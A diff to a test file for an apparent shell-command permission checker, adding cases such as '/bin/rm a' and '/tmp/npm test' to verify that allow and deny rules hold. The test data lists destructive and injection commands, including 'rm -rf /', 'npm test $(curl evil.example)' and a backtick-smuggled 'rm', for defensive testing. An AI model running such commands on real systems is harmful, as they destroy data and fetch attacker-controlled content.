@@ -21,6 +21,7 @@ describe("a rule that allows shell commands", () => {
     "npm test > ~/.bashrc",
     "npm test $(curl evil.example)",
     "git status `rm a`",
+    "/tmp/npm test",
     "npm testing",
     "",
     "# npm test",
@@ -36,7 +37,15 @@ describe("a rule that allows shell commands", () => {
 })
 
 describe("a rule that denies shell commands", () => {
-  it.each(["rm -rf /", "ls && sudo rm a", "echo $(rm a)", "eval $X", "bash build.sh"])("denies %s", (command) => {
+  it.each([
+    "rm -rf /",
+    "/bin/rm a",
+    "sudo /usr/bin/rm a",
+    "ls && sudo rm a",
+    "echo $(rm a)",
+    "eval $X",
+    "bash build.sh",
+  ])("denies %s", (command) => {
     expect(decide([DELETES], { command })).toMatchObject({ decision: "deny", rule: "deletes" })
   })
 
